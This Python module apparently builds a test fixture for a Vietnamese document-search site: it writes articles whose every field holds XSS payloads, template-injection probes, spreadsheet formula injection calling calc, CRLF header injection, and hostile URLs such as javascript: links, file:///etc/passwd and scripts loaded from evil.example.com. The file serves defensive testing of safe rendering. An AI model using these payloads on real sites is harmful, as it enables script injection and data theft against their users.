"""Articles that attack: forty texts that would run, load or lead somewhere if any page took them for more than text."""

from __future__ import annotations

import json
from pathlib import Path

WORD = "mồi"  # in every article, so that one search finds them all
HOST = "evil.example.com"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example.com/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example.com/x.swf>",
    "<link rel=stylesheet href=//evil.example.com/x.css>",
    "<style>@import '//evil.example.com/x.css';</style>",
    "<style>*{background:url(//evil.example.com/x)}</style>",
    "<base href='//evil.example.com/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example.com/'>",
    "<form action='//evil.example.com/'><input name=q><button>Tìm</button></form>",
    "<a href='javascript:alert(1)'>bấm</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<mark>giả</mark></mark><b>đậm</b>",
    "{{7*7}}{% for x in [] %}${7*7}<%= 7*7 %>#{7*7}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example.com\",\"bấm\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "]]><script>alert(1)</script><![CDATA[",
    "--><script>alert(1)</script><!--",
    "`;alert(1);//${alert(1)}",
    "\u202e<script>\u2028alert(1)\u2029</script>",
    "mồi\r\nBEGIN:VEVENT\r\nX-EVIL:1\r\nSet-Cookie: evil=1",
]  # fmt: skip

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example.com/bai",
    "http:\\\\evil.example.com\\bai",
    "https://ai:mat-khau@evil.example.com/",
    "https://tracuu.example.vn@evil.example.com/",
    "http://",
    "https://evil.example.com/" + "a" * 10_000,
    "https://evil.example.com/\"onmouseover=alert(1)",
    "https://evil.example.com/<script>alert(1)</script>",
    "ftp://evil.example.com/bai",
    "file:///etc/passwd",
    "mailto:ai@evil.example.com",
    "blob:https://evil.example.com/1",
    "\x01javascript:alert(1)",
    "https://evil.example.com\t/bai",
]  # fmt: skip


def write(folder: Path) -> Path:
    """A JSONL file: each payload in every field of an article, each URL as the source of one."""
    rows = [
        {
            "id": f"x{number}",
            "title": f"{payload} {WORD}",
            "text": f"{payload} {WORD} theo Nghị quyết 05-NQ/TU {payload}\n\n{payload}\n\n{WORD} {payload} hết.",
            "author": payload,
            "source": payload,
            "section": payload,
            "number": payload if number % 3 else f"{number}-NQ/TU",
            "issuer": payload if number % 3 else "Thành ủy TPHCM",
            "signer": payload,
            "basis": [payload, f"Căn cứ {payload} Nghị quyết số 05-NQ/TU"],
            "kind": payload if number % 3 else "Nghị quyết",
            "themes": [payload],
            "date": payload if number % 2 else f"2021-09-{number % 28 + 1:02}",
            "url": payload,
        }
        for number, payload in enumerate(PAYLOADS, 1)
    ]
    rows += [
        {"id": f"u{number}", "title": f"Địa chỉ {number} {WORD}", "text": f"{WORD} tại nguồn.", "url": url}
        for number, url in enumerate(URLS, 1)
    ]
    file = folder / "hostile.jsonl"
    file.write_text("\n".join(json.dumps(row, ensure_ascii=False) for row in rows), encoding="utf-8")
    return file
